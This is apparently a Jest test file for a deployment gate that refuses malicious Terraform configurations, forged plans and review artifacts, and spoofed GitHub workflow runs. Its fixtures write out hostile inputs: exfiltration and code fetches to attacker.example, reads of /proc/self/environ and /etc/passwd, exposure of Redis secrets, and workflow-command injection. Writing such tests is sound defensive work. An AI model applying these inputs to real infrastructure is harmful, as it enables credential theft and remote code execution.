import { mkdirSync, renameSync, rmSync, symlinkSync, truncateSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { apply, compare, configuration, days, find, LOCK, MERGED, plan, RUN } from "./attack-stage";

beforeEach(() => jest.spyOn(console, "log").mockImplementation(() => {}));
afterEach(() => jest.restoreAllMocks());

// biome-ignore lint/suspicious/noExplicitAny: JSON that an attacker may have written in any shape
type Json = any;
const branch = (change: (stack: Json) => void) => () => configuration(change).check();
const beside = (files: (folder: string) => void) => () => configuration(() => {}, files).check();
const planned = (change: (json: Json) => void) => () => plan(change).write();
/** An output of what this expression is. */
const says = (value: unknown) => branch((stack) => (stack.output.stolen = { value }));
const resource = (type: string, body: object) => branch((stack) => (stack.resource[type] = { own: body }));
const cache = (change: (body: Json) => void) => branch((stack) => change(stack.resource.google_redis_instance.cache));
const google = (settings: object) => branch((stack) => Object.assign(stack.provider.google[0], settings));

/** Who can push a branch, and what stops it: each is refused before anything of it is planned, believed or applied. */
const ATTACKS: [attack: string, act: () => unknown, reason: string | RegExp][] = [
  // Code that Terraform would run.
  ["a provisioner", cache((it) => (it.provisioner = [{ "local-exec": { command: "id" } }])), "cache has provisioner"],
  ["a connection", cache((it) => (it.connection = { host: "attacker.example" })), "cache has connection"],
  [
    "terraform_data with local-exec",
    resource("terraform_data", { provisioner: [] }),
    "resource.terraform_data is refused",
  ],
  ["null_resource", resource("null_resource", {}), "resource.null_resource is refused"],
  [
    "a provisioner in a removed block",
    branch((it) => (it.removed = [{ from: "a.b", provisioner: [] }])),
    "removed.provisioner",
  ],
  ["data external", branch((it) => (it.data = { external: { own: { program: ["sh"] } } })), "data is refused"],
  ["data http", branch((it) => (it.data = { http: { own: { url: "http://attacker.example" } } })), "data is refused"],
  ["a module", branch((it) => (it.module = { own: { source: "git::https://attacker.example" } })), "module is refused"],
  ["an ephemeral resource", branch((it) => (it.ephemeral = {})), "ephemeral is refused"],
  ["a check with a data source", branch((it) => (it.check = {})), "check is refused"],
  ["a function of a provider", says("${provider::own::read()}"), "an expression that is not understood"],

  // Secrets and files that a plan would show.
  [
    "data of a secret's version",
    branch((it) => (it.data = { google_secret_manager_secret_version: {} })),
    "data is refused",
  ],
  [
    "data of an access token",
    branch((it) => (it.data = { google_service_account_access_token: {} })),
    "data is refused",
  ],
  ["the state of another environment", branch((it) => (it.data = { terraform_remote_state: {} })), "data is refused"],
  ["an output of the AUTH string", says("${google_redis_instance.cache.auth_string}"), "auth_string, which is secret"],
  [
    "the same without its mark",
    says("${nonsensitive(google_redis_instance.cache.auth_string)}"),
    "calls nonsensitive()",
  ],
  ["a whole Redis", says("${jsonencode(google_redis_instance.cache)}"), "refers to a google_redis_instance as a whole"],
  ["all of its kind", says("${google_redis_instance}"), "refers to a google_redis_instance as a whole"],
  ["the AUTH string by index", says('${google_redis_instance.cache["auth_string"]}'), "as a whole"],
  [
    "the AUTH string by index, and more",
    says('${google_redis_instance.cache["auth_string"].x}'),
    "an attribute that is not named",
  ],
  [
    "the AUTH string by a computed name",
    says('${google_redis_instance.cache[join("_", ["auth", "string"])].x}'),
    "an attribute that is not named",
  ],
  ["the AUTH string in parentheses", says("${(google_redis_instance.cache).auth_string}"), "as a whole"],
  ["the AUTH string of all", says("${google_redis_instance.cache.*.auth_string}"), "auth_string, which is secret"],
  ["the AUTH string in a loop", says("${[for key, value in google_redis_instance.cache : value]}"), "loops with for"],
  ["the AUTH string in a directive", says("%{for v in google_redis_instance.cache}${v}%{endfor}"), "loops with for"],
  [
    "the AUTH string in a name, which an error would quote",
    cache((it) => (it.name = "${google_redis_instance.cache.auth_string}")),
    "auth_string, which is secret",
  ],
  [
    "the AUTH string in a key",
    branch((it) => (it.output.own = { value: { "${google_redis_instance.cache.auth_string}": 1 } })),
    "auth_string, which is secret",
  ],
  [
    "the AUTH string in a condition",
    cache((it) => (it.lifecycle.precondition = {})),
    "lifecycle.precondition is refused",
  ],
  [
    "a block with a secret in it",
    says("${google_monitoring_notification_channel.own.sensitive_labels}"),
    "which is secret",
  ],
  [
    "an import of a secret's version",
    branch(
      (it) => (it.import = [{ to: "google_secret_manager_secret_version.own", id: "projects/1/secrets/a/versions/1" }]),
    ),
    "import of google_secret_manager_secret_version.own",
  ],
  ["file() of a key", says('${file("/proc/self/environ")}'), "calls file()"],
  ["file() in a string in an expression", says('${join("", ["${file("key.json")}"])}'), "calls file()"],
  ["templatefile()", says('${templatefile("a", {})}'), "calls templatefile()"],
  ["filebase64sha256()", says('${filebase64sha256("a")}'), "calls filebase64sha256()"],
  ["fileset()", says('${fileset("/", "**")}'), "calls fileset()"],
  ["the path of the module", says("${path.module}"), "refers to path"],
  ["a comment that hides a call", says('${/* */file("a")}'), "an expression that is not understood"],
  [
    "a file as the content of an object",
    resource("google_storage_bucket_object", { source: "/proc/self/environ" }),
    "google_storage_bucket_object is refused",
  ],
  ["a key of an account", resource("google_service_account_key", {}), "google_service_account_key is refused"],

  // Where the token goes.
  [
    "an endpoint of its own",
    google({ redis_custom_endpoint: "https://attacker.example/" }),
    'redis_custom_endpoint is "https://attacker.example/", and main has not there',
  ],
  ["an access token", google({ access_token: "ya29" }), "provider.google is"],
  ["credentials", google({ credentials: "key.json" }), "provider.google is"],
  ["another account", google({ impersonate_service_account: "lineup-deploy@x" }), "provider.google is"],
  ["another project", google({ project: "netra-production" }), "provider.google is"],
  ["a second provider", branch((it) => (it.provider.null = [{}])), "provider.null is"],
  [
    "a provider of another source",
    branch((it) => (it.terraform.required_providers.google.source = "attacker/google")),
    'terraform.required_providers.google.source is "attacker/google"',
  ],
  [
    "another version of the provider",
    branch((it) => (it.terraform.required_providers.google.version = "6.49.0")),
    "required_providers.google.version",
  ],
  [
    "a provider besides",
    branch((it) => (it.terraform.required_providers.own = { source: "attacker/own" })),
    "required_providers.own",
  ],
  [
    "another backend",
    branch((it) => (it.terraform.backend = { http: { address: "https://attacker.example" } })),
    "terraform.backend.gcs is not there",
  ],
  [
    "another bucket",
    branch((it) => (it.terraform.backend.gcs.bucket = "attacker")),
    'terraform.backend.gcs.bucket is "attacker"',
  ],
  [
    "the state of production",
    branch((it) => (it.terraform.backend.gcs.prefix = "production")),
    'terraform.backend.gcs.prefix is "production"',
  ],
  ["no backend", branch((it) => delete it.terraform.backend), "terraform.backend is not there"],
  [
    "another version of Terraform",
    branch((it) => (it.terraform.required_version = "~> 0.1")),
    "terraform.required_version",
  ],
  ["a provider for one resource", cache((it) => (it.provider = "google.own")), "cache has provider"],

  // The artifact itself.
  [
    "a link in the place of the configuration",
    beside((it) => {
      rmSync(join(it, "cdk.tf.json"));
      symlinkSync("/etc/passwd", join(it, "cdk.tf.json"));
    }),
    "is not a file",
  ],
  [
    "a link in the place of the folder",
    () => {
      const it = configuration(
        () => {},
        (folder) => {
          renameSync(folder, `${folder}-else`);
          symlinkSync(`${folder}-else`, folder);
        },
      );
      return it.check();
    },
    "is not a folder",
  ],
  ["a file of Terraform's beside it", beside((it) => writeFileSync(join(it, "main.tf"), "")), 'holds "main.tf"'],
  [
    "an override beside it",
    beside((it) => writeFileSync(join(it, "override.tf.json"), "{}")),
    'holds "override.tf.json"',
  ],
  ["variables beside it", beside((it) => writeFileSync(join(it, "terraform.tfvars"), "")), 'holds "terraform.tfvars"'],
  ["providers beside it", beside((it) => mkdirSync(join(it, ".terraform"))), 'holds ".terraform"'],
  ["a name with a line break", beside((it) => writeFileSync(join(it, "a\n::error::b"), "")), 'holds "a ::error::b"'],
  [
    "a replaced lock file",
    beside((it) => writeFileSync(join(it, ".terraform.lock.hcl"), LOCK.replace("zh:1", "zh:2"))),
    ".terraform.lock.hcl is not main's",
  ],
  [
    "a huge file",
    beside((it) => truncateSync(join(it, "cdk.tf.json"), 6_000_000)),
    "6000000 bytes, 5000000 are allowed",
  ],
  [
    "a key that is said twice",
    beside((it) => writeFileSync(join(it, "cdk.tf.json"), '{"terraform":{},"terraform":{}}')),
    "repeats the key",
  ],
  [
    "JSON a thousand levels deep",
    beside((it) => writeFileSync(join(it, "cdk.tf.json"), `{"a":${"[".repeat(1000)}${"]".repeat(1000)}}`)),
    "nested more than 500 levels",
  ],
  ["no JSON", beside((it) => writeFileSync(join(it, "cdk.tf.json"), "resource {}")), "is not read"],
  ["a list of resources", branch((it) => (it.resource = [it.resource])), "(not one block) is refused"],

  // The plan says of itself that it is another.
  [
    "a plan with a provisioner",
    planned((it) => (it.configuration.root_module.resources[0].provisioners = [{ type: "local-exec" }])),
    "runs a provisioner",
  ],
  [
    "a plan with a resource that main does not synthesize",
    planned((it) =>
      it.resource_changes.push({
        ...it.resource_changes[0],
        address: "google_project_iam_member.owner",
        type: "google_project_iam_member",
        name: "owner",
      }),
    ),
    "to create google_project_iam_member.owner, which main does not synthesize",
  ],
  [
    "a plan of another configuration",
    planned((it) =>
      it.configuration.root_module.resources.push({ address: "google_service_account_key.own", mode: "managed" }),
    ),
    "google_service_account_key.own was not checked",
  ],
  [
    "a plan that leaves something out",
    planned((it) => it.configuration.root_module.resources.pop()),
    "the plan leaves out",
  ],
  [
    "a plan of a module",
    planned((it) => (it.configuration.root_module.module_calls = {})),
    "module_calls were not checked",
  ],
  [
    "a plan with data external",
    planned((it) => it.configuration.root_module.resources.push({ address: "data.external.own", mode: "data" })),
    "data.external.own was not checked",
  ],
  [
    "a plan by another provider",
    planned((it) => (it.resource_changes[0].provider_name = "registry.terraform.io/attacker/google")),
    "belongs to the provider registry.terraform.io/attacker/google",
  ],
  [
    "a plan with a provider of another source",
    planned((it) => (it.configuration.provider_config.google.full_name = "attacker.example/a/google")),
    "the provider google (attacker.example/a/google 6.50.0)",
  ],
  [
    "a plan with an endpoint of its own",
    planned((it) => (it.configuration.provider_config.google.expressions.redis_custom_endpoint = {})),
    "a setting of it was not checked",
  ],
  ["a plan of a part", planned((it) => (it.complete = false)), "the plan is not whole"],
  ["a plan that has failed", planned((it) => (it.errored = true)), "the plan is not whole"],
  ["a plan that invokes actions", planned((it) => (it.action_invocations = [{}])), "invokes actions of providers"],

  // What was reviewed is forged: a branch can write any changes.json.
  ["a review of nothing", () => compare((it) => (it.changes = [])), /to create|: create, and nobody has reviewed it/],
  [
    "a review that leaves one change out",
    () => compare((it) => it.changes.pop()),
    "create, and nobody has reviewed it",
  ],
  [
    "a review of more than is planned",
    () => compare((it) => it.changes.push({ ...it.changes[0], address: "google_redis_instance.own" })),
    "create was reviewed, and is not planned",
  ],
  [
    "a review that says a change twice",
    () => compare((it) => it.changes.push(it.changes[0])),
    "(again): create was reviewed, and is not planned",
  ],
  ["a review made in the future", () => compare((it) => (it.made = days(-365))), "it was made in the future"],
  ["a review of last month", () => compare((it) => (it.made = days(30))), "it is 30 days old, and 5 are allowed"],
  [
    "a review of another environment",
    () => compare((it) => (it.environment = "production")),
    "its environment is production, and staging is wanted",
  ],
  ["a review of another commit", () => compare((it) => (it.commit = "2".repeat(40))), "its commit is 2222"],
  [
    "a review of another pull request",
    () => compare((it) => (it.pullRequest = "8")),
    "its pull request is 8, and 7 is wanted",
  ],
  [
    "a review with another lock file",
    () => compare((it) => (it.lockFile = "0".repeat(64))),
    "its sha256 of the lock file is 0000",
  ],
  [
    "a review by another Terraform",
    () => compare((it) => (it.terraform = "1.12.0")),
    "its version of Terraform is 1.12.0",
  ],
  [
    "a review with a field of its own",
    () => compare((it) => (it.trusted = true)),
    "is not what plan-changes.ts writes",
  ],
  ["a change after the approval", () => apply((it) => it.changes.pop()), "its sha256 is"],
  ["an approval without a sha256", () => apply(() => {}, ""), "EXPECTED_SHA256 is empty"],

  // Another run is passed off as the one that was reviewed.
  [
    "a second pull request of the commit, into a branch of the attacker's",
    () => find({ pull: { base: { ref: "attacker", repo: { full_name: "netra/environment" } } } }),
    "is not the merge of a pull request into main",
  ],
  [
    "a run of that second pull request alone",
    () => find({ run: { pull_requests: [{ number: 8, base: { ref: "attacker" } }] } }),
    "pull request 7 has no run of",
  ],
  [
    "a pull request into another repository",
    () => find({ pull: { base: { ref: "main", repo: { full_name: "attacker/environment" } } } }),
    "is not the merge of a pull request into main",
  ],
  [
    "a pull request that is open",
    () => find({ pull: { merged_at: null } }),
    "is not the merge of a pull request into main",
  ],
  [
    "a push without a pull request",
    () => find({ pull: { merge_commit_sha: "3".repeat(40) } }),
    `${MERGED} is not the merge`,
  ],
  [
    "a pull request from a fork",
    () => find({ pull: { head: { sha: RUN.head_sha, repo: { full_name: "attacker/environment" } } } }),
    "comes from a fork",
  ],
  ["a fork that is gone", () => find({ pull: { head: { sha: RUN.head_sha, repo: null } } }), "comes from a fork"],
  [
    "a workflow of the same name",
    () => find({ run: { path: ".github/workflows/own.yaml" } }),
    "has no run of .github/workflows/pr.yaml",
  ],
  ["a run by hand", () => find({ run: { event: "workflow_dispatch" } }), "has no run of"],
  ["a run of a fork", () => find({ run: { head_repository: { full_name: "attacker/environment" } } }), "has no run of"],
  ["a run of another commit", () => find({ run: { head_sha: "4".repeat(40) } }), "has no run of"],
  ["a run that has failed", () => find({ run: { conclusion: "failure" } }), "has ended with failure"],
  [
    "a run that is still going",
    () => find({ run: { status: "in_progress", conclusion: null } }),
    "has ended with in_progress",
  ],
  ["a re-run after the merge", () => find({ artifact: { created_at: days(-1) } }), "was made after the merge"],
  ["an artifact without a date", () => find({ artifact: { created_at: null } }), "was made after the merge"],
  [
    "two artifacts of the name",
    () => find({ artifacts: [1, 2].map(() => ({ name: "review-staging", expired: false, created_at: days(1) })) }),
    "has 2 reviews of staging",
  ],
  [
    "the artifact of another environment",
    () => find({ artifact: { name: "review-production" } }),
    "has no review of staging",
  ],
  ["an artifact that has expired", () => find({ artifact: { expired: true } }), "has no review of staging"],
];

test.each(ATTACKS)("%s is refused, with the reason", async (_, act, reason) => {
  await expect((async () => act())()).rejects.toThrow(reason);
});

test("what is no attack passes every one of these gates", async () => {
  expect(configuration().check()).toMatch(/^staging may be planned/);
  expect(plan().write()).toMatch(/^\d+ changes of staging at 1{40}, sha256 [0-9a-f]{64}$/);
  expect(compare()).toMatch(/^the plan of staging does what was reviewed: \d+ changes, and no other$/);
  expect(apply()).toMatch(/^the plan of staging does what was reviewed/);
  expect((await find()).said).toBe("pull request 7 was reviewed in run 42");
});

test("a refusal that is not the first is printed, too, and none can speak to the runner", () => {
  const attack = branch((stack) => {
    stack.data = {};
    stack.resource["::stop-commands::x\n::add-mask::y"] = {};
  });
  expect(attack).toThrow(/for 2 reasons/);
  const said = (console.log as jest.Mock).mock.calls.map(([line]) => String(line));
  expect(said).toHaveLength(2);
  for (const line of said) expect(line).toMatch(/^::error title=refused::[^\n]+$/);
});
